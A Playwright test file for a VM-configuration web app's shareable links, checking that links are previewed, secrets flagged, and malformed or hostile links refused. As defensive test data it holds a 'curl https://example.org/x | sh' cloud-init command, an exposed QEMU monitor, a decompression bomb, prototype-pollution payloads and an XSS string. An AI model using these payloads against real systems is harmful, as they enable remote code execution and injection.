import { deflateRawSync } from 'node:zlib'
import type { Browser, Page } from '@playwright/test'
import {
  clipboardText,
  copyAllOutputs,
  copyOutput,
  expect,
  openPage,
  openPageAndEditor,
  openPart,
  pastePage,
  showOutput,
  test,
} from './page.ts'

/** A link as the issue describes it, around any bytes: the check is right, what is inside need not be. */
function linkOf(text: string): string {
  const bytes = deflateRawSync(text, { level: 9 })
  return `#v1.${crc32(bytes).toString(16).padStart(8, '0')}.${bytes.toString('base64url')}`
}

/** ISO 3309. */
function crc32(bytes: Uint8Array): number {
  let value = 0xffffffff
  for (const byte of bytes) {
    value ^= byte
    for (let bit = 0; bit < 8; bit += 1) value = (value & 1) === 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1
  }
  return (value ^ 0xffffffff) >>> 0
}

const theirs = linkOf(JSON.stringify({ name: 'theirs', spec: { ram: '3G', cpu: 3, disk_size: '30G' } }))

/** A page of another person: nothing is shared with the first but the address. */
async function openElsewhere(browser: Browser, address: string): Promise<Page> {
  const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] })
  const page = await context.newPage()
  await page.goto(address)
  return page
}

test('the link gives the same outputs in another browser, byte for byte', async ({ page, browser }) => {
  test.slow()
  await openPage(page)
  await page.getByRole('textbox', { name: 'Name of the VM' }).fill('Zoë’s <lab> & "co"')
  await openPart(page, 'Memory')
  await page.locator('main').getByRole('textbox', { name: 'Memory', exact: true }).fill('7G')
  await openPart(page, 'Shares')
  await page.getByRole('button', { name: 'Add share' }).click()
  await page.getByRole('menuitem', { name: /^virtiofs/ }).click()
  await page
    .locator('main')
    .getByRole('textbox', { name: 'Directory', exact: true })
    .fill("/srv/it's $HOME; \\n")
  await openPart(page, 'Disks')
  await page.getByRole('button', { name: 'Add disk' }).click()
  await page.getByRole('menuitem', { name: /^Disk image/ }).click()
  await page.locator('main').getByRole('textbox', { name: 'File', exact: true }).fill('/srv/data.qcow2')

  await page.getByRole('button', { name: 'Share', exact: true }).click()
  const share = page.getByRole('dialog', { name: /^Share Zoë/ })
  await expect(share.getByRole('img', { name: 'The link as a QR code' })).toBeVisible()
  await share.getByRole('button', { name: 'Copy the link' }).click()
  await expect(page.locator('.live-region')).toContainText('Copied the link')
  const link = await clipboardText(page)
  expect(link).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#v1\.[0-9a-f]{8}\.[\w-]+$/)
  const mine = await copyAllOutputs(page)

  const other = await openElsewhere(browser, link)
  // Its share and its disk are outside of the VM's folder, which is said before it is taken.
  const asked = other.getByRole('dialog', { name: /^Open Zoë/ })
  await expect(asked.getByRole('list', { name: 'What it touches' })).toContainText('/srv/data.qcow2')
  await asked.getByRole('button', { name: 'Open', exact: true }).click()
  await expect(other.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue('Zoë’s <lab> & "co"')
  // The link is no longer in the address: a reload must not bring it over what is done next.
  expect(new URL(other.url()).hash).toBe('')
  expect(await copyAllOutputs(other)).toEqual(mine)
  await other.context().close()
})

test('a link never takes the place of work without asking', async ({ page }) => {
  await openPage(page)
  const name = page.getByRole('textbox', { name: 'Name of the VM' })
  await name.fill('mine')
  await openPage(page, theirs)
  const dialog = page.getByRole('dialog', { name: 'Open theirs?' })
  await expect(dialog).toBeVisible()
  // What the link brings, in words.
  await expect(dialog).toContainText('3 vCPU')
  await expect(dialog).toContainText('3G')
  await dialog.getByRole('button', { name: 'Keep mine' }).click()
  await expect(dialog).toBeHidden()
  await expect(name).toHaveValue('mine')
  await page.reload()
  await expect(name).toHaveValue('mine')

  // The same with the link put into the address of the open page.
  await page.evaluate((fragment) => {
    location.hash = fragment
  }, theirs)
  await expect(dialog).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(name).toHaveValue('mine')
  await page.evaluate((fragment) => {
    location.hash = fragment
  }, theirs)
  await dialog.getByRole('button', { name: 'Open', exact: true }).click()
  await expect(name).toHaveValue('theirs')
  await page.getByRole('button', { name: /^Undo: open theirs/ }).click()
  await expect(name).toHaveValue('mine')
})

test('a link is looked through before it is opened, also where nothing would be lost', async ({ page }) => {
  await openPage(page, theirs)
  const dialog = page.getByRole('dialog', { name: 'Open theirs?' })
  await expect(dialog).toContainText('3 vCPU')
  await expect(dialog).toContainText('it touches nothing else of your host')
  await dialog.getByRole('button', { name: 'Open', exact: true }).click()
  await expect(page.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue('theirs')
})

test('the length of a link and what it leaves out are said before it is copied', async ({ page }) => {
  // What does not deflate: each line is another one.
  const lines = Array.from({ length: 900 }, (_, line) => (line * 2_654_435_761).toString(36))
  const long = linkOf(JSON.stringify({ name: 'theirs', spec: { libvirt: { description: lines.join(' ') } } }))
  await openPage(page, long)
  await page.getByRole('dialog', { name: 'Open theirs?' }).getByRole('button', { name: 'Open' }).click()
  await pastePage(page, '01:00.0 VGA compatible controller [0300]: NVIDIA Corporation AD104 [10de:2786]')
  await expect(page.locator('.live-region')).toContainText('Read about the host')
  await page.getByRole('button', { name: 'Share', exact: true }).click()
  const dialog = page.getByRole('dialog', { name: 'Share theirs' })
  await expect(dialog).toContainText(/of [\d,]+ characters/)
  await expect(dialog).toContainText(
    /Too long for one message of Discord \(2,000\) and of Telegram \(4,096\)/,
  )
  await expect(dialog).toContainText('too long for a QR code')
  await expect(dialog).toContainText(/Not in it: what is known of the host \(.*lspci/)
})

test('what would touch the host is listed before a link is taken, and only then', async ({ page }) => {
  const reaching = linkOf(
    JSON.stringify({
      name: 'theirs',
      spec: {
        cloud_init: { runcmd: ['curl https://example.org/x | sh'] },
        libvirt: {
          qemu_arguments: ['-monitor', 'tcp:0.0.0.0:4444'],
          snippets: ["<hub type='usb'/>"],
          devices: {
            emulator: '/tmp/emulator',
            filesystems: [{ source: '/home/me', target: 'home' }],
            hostdevs: [{ type: 'usb', source: { vendor: '0x1234', product: '0x5678' } }],
          },
        },
      },
    }),
  )
  await openPage(page, reaching)
  const dialog = page.getByRole('dialog', { name: 'Open theirs?' })
  const list = dialog.getByRole('list', { name: 'What it touches' })
  for (const text of [
    'The guest sees the folder /home/me and may write in it',
    'The guest gets a USB device of the host (0x1234 0x5678)',
    'It runs or boots /tmp/emulator of the host',
    'QEMU gets -monitor tcp:0.0.0.0:4444',
    "libvirt gets <hub type='usb'/>",
    'root of the guest runs curl https://example.org/x | sh',
  ])
    await expect(list).toContainText(text)
  await page.keyboard.press('Escape')
  await expect(page.getByRole('textbox', { name: 'Name of the VM' })).not.toHaveValue('theirs')
  await page.evaluate((fragment) => {
    location.hash = fragment
  }, reaching)
  await dialog.getByRole('button', { name: 'Open', exact: true }).click()
  await expect(page.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue('theirs')
  // It stays said: the design is still from somebody else, after a reload too.
  await page.reload()
  await openPart(page, 'Shares')
  await expect(page.locator('main')).toContainText('This came with the link')
})

test('secrets are named before a link or a bundle with them is handed out', async ({ page }) => {
  await openPageAndEditor(
    page,
    linkOf(
      JSON.stringify({
        name: 'theirs',
        spec: { disk_size: '10G', libvirt: { description: 'token: hunter2hunter2' } },
      }),
    ),
  )
  await page.getByRole('dialog', { name: 'Open theirs?' }).getByRole('button', { name: 'Open' }).click()
  await page.getByRole('button', { name: 'Share', exact: true }).click()
  const share = page.getByRole('dialog', { name: 'Share theirs' })
  await expect(share).toContainText('libvirt.description')
  await expect(share).not.toContainText('hunter2')
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Download', exact: true }).click()
  await page.getByRole('menuitem', { name: /^Everything as zip/ }).click()
  const bundle = page.getByRole('dialog', { name: 'theirs.zip will hold these' })
  await expect(bundle).toContainText('libvirt.description')
  const download = page.waitForEvent('download')
  await bundle.getByRole('button', { name: 'Download theirs.zip' }).click()
  expect((await download).suggestedFilename()).toBe('theirs.zip')
})

const long = JSON.stringify({ name: 'a', spec: { libvirt: { description: 'x'.repeat(300 * 1024) } } })

const hostile: readonly (readonly [string, string, RegExp])[] = [
  ['cut off', theirs.slice(0, -8), /cut off or changed/],
  ['with one character changed', flip(theirs), /cut off or changed|not a whole vmwright link/],
  ['of another version', theirs.replace('#v1.', '#v7.'), /version 7/],
  ['without data', '#v1.00000000.', /not a whole vmwright link/],
  ['too long', `#v1.00000000.${'A'.repeat(40 * 1024)}`, /at most 32768/],
  ['that unpacks to more than it may', linkOf(long), /more than 256 KiB/],
  ['that is a bomb', linkOf('0'.repeat(16 * 1024 * 1024)), /more than 256 KiB/],
  ['that holds no deflated data', badDeflate(), /can't be unpacked|no JSON/],
  ['that holds no JSON', linkOf('name: theirs'), /no JSON/],
  ['nested too deep', linkOf(`${'['.repeat(500)}${']'.repeat(500)}`), /deeper than 64 levels/],
  [
    'that reaches for the prototype',
    linkOf('{"__proto__":{"polluted":1},"name":"a","spec":{}}'),
    /__proto__/,
  ],
  ['that holds no design', linkOf('[1,2,3]'), /map of a name and a spec/],
  ['without a spec', linkOf('{"name":"theirs"}'), /no spec/],
]

function flip(link: string): string {
  const at = link.length - 12
  return `${link.slice(0, at)}${link[at] === 'A' ? 'B' : 'A'}${link.slice(at + 1)}`
}

function badDeflate(): string {
  const bytes = Buffer.from('ffffffffffffffff', 'hex')
  return `#v1.${crc32(bytes).toString(16).padStart(8, '0')}.${bytes.toString('base64url')}`
}

test('hostile links are refused with a reason, and the page works on', async ({ page }) => {
  await openPage(page)
  const name = page.getByRole('textbox', { name: 'Name of the VM' })
  await name.fill('mine')
  await showOutput(page, 'YAML')
  const before = await copyOutput(page)
  for (const [what, link, reason] of hostile) {
    await test.step(`a link ${what}`, async () => {
      await page.evaluate((fragment) => {
        location.hash = fragment
      }, link)
      const dialog = page.getByRole('dialog', { name: 'No VM in the link' })
      await expect(dialog).toContainText(reason)
      await dialog.getByRole('button', { name: 'Close' }).click()
      await expect(dialog).toHaveCount(0)
      expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined()
    })
  }
  expect(await copyOutput(page)).toBe(before)
  await name.fill('still mine')
  expect(await copyOutput(page)).toContain('still mine:')
})

test('a hostile link is refused on the first load as well', async ({ page }) => {
  await openPage(page, linkOf('0'.repeat(16 * 1024 * 1024)))
  await expect(page.getByRole('dialog')).toContainText('more than 256 KiB')
  await page.keyboard.press('Escape')
  await expect(page.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue('my-vm')
})

test('what is wrong within a link is named before it is opened', async ({ page }) => {
  const link = linkOf(
    JSON.stringify({
      name: 'theirs',
      spec: { ram: '3G', memroy: 1, cpu: 'many', libvirt: { constructor: { prototype: { polluted: 1 } } } },
    }),
  )
  await openPage(page, link)
  const dialog = page.getByRole('dialog', { name: 'Open theirs?' })
  await expect(dialog).toContainText('memroy')
  await expect(dialog).toContainText('cpu')
  await expect(dialog).toContainText('constructor')
  await dialog.getByRole('button', { name: 'Open', exact: true }).click()
  expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined()
  await showOutput(page, 'YAML')
  const yaml = await copyOutput(page)
  expect(yaml).toContain('ram: 3G')
  expect(yaml).not.toMatch(/memroy|many|constructor|polluted/)
})

test('what a link holds is text, never markup', async ({ page }) => {
  const name = '<img src=x onerror="window.broken=1"><script>window.broken=1</script>'
  await openPage(
    page,
    linkOf(JSON.stringify({ name, spec: { libvirt: { title: name, description: name } } })),
  )
  await page.getByRole('dialog').getByRole('button', { name: 'Open', exact: true }).click()
  await expect(page.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue(name)
  await page.waitForTimeout(500)
  expect(await page.evaluate(() => Reflect.get(window, 'broken'))).toBeUndefined()
  expect(await page.locator('img[src="x"]').count()).toBe(0)
})

test('keys, passwords and paths under a home are named before the link is copied', async ({ page }) => {
  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBq0f2c0p6m3k7u1o4Yy9d8e5r2t7w1x3z5b8n0m2v4c6 zoe@lab'
  await openPage(
    page,
    linkOf(
      JSON.stringify({
        name: 'secretive',
        spec: {
          cloud_init: { extra: `ssh_authorized_keys:\n  - ${key}\n` },
          libvirt: {
            devices: {
              graphics: [{ type: 'vnc', passwd: 'hunter2' }],
              filesystems: [{ driver: 'virtiofs', source: '/home/zoe/work', target: 'work' }],
            },
          },
        },
      }),
    ),
  )
  await page.getByRole('dialog', { name: 'Open secretive?' }).getByRole('button', { name: 'Open' }).click()
  await expect(page.getByRole('textbox', { name: 'Name of the VM' })).toHaveValue('secretive')
  await page.evaluate(() => navigator.clipboard.writeText('before'))
  await page.getByRole('button', { name: 'Share', exact: true }).click()
  const dialog = page.getByRole('dialog', { name: 'Share secretive' })
  await expect(dialog.getByRole('listitem').filter({ hasText: 'SSH public key' })).toContainText(
    'ssh-ed25519',
  )
  await expect(dialog.getByRole('listitem').filter({ hasText: 'Password' })).toContainText('graphics')
  await expect(dialog).not.toContainText('hunter2')
  await expect(dialog.getByRole('listitem').filter({ hasText: 'Path under a home' })).toContainText(
    '/home/zoe',
  )
  expect(await clipboardText(page)).toBe('before')
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  expect(await clipboardText(page)).toBe('before')
  await page.getByRole('button', { name: 'Share', exact: true }).click()
  await dialog.getByRole('button', { name: 'Copy the link' }).click()
  await expect.poll(() => clipboardText(page)).toContain('#v1.')
})
